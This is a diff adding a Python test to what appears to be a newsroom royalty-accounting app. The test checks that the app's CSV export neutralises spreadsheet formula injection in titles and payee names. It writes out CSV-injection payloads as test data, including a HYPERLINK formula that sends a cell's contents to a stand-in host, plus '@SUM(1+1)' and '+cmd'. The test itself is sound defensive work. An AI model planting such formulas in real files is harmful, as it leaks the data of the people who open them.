@@ -200,3 +200,27 @@ def test_the_payee_list_costs_the_same_queries_for_5_or_20_users(app, make):
     many, page = queries()
     assert "ctv19" in page and "Đơn vị 19" in page
     assert many == few, (few, many)
+
+
+def test_the_csv_export_does_not_hand_excel_a_formula_from_a_title_or_a_name(client, board):
+    """Titles and outsider names are typed by contributors and editors: a cell starting with = + - @
+    would run as a formula when the accountant opens the CSV in Excel (CSV injection)."""
+    import csv
+    import io
+
+    h = board["h"]
+    item = {"external_id": "inj-1", "content_type": "tin", "category": "van-ban",
+            "title": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm")', "author_username": "ctv_x",
+            "published_at": "2025-03-10T09:00:00+07:00",
+            "grading": {"parts": [_part(payees=[{"name": "@SUM(1+1)", "pen_name": "+cmd", "share": "100"}])]}}
+    assert client.post("/api/v1/admin/sites/tinh/import", json={"items": [item]},
+                       headers=h["admin"]).status_code == 200
+    sheet = client.post("/api/v1/royalty/sheets", json={"site": "tinh", "period": "2025-03"},
+                        headers=h["ketoan"]).get_json()
+    assert sheet["totals"]["gross"] == 351_000
+    response = client.get(f"/api/v1/royalty/sheets/{sheet['id']}/export.csv", headers=h["ketoan"])
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], cells
+    assert "'" + item["title"] in cells and "'@SUM(1+1)" in cells  # kept, as text
+    assert "351000" in cells  # figures stay numbers
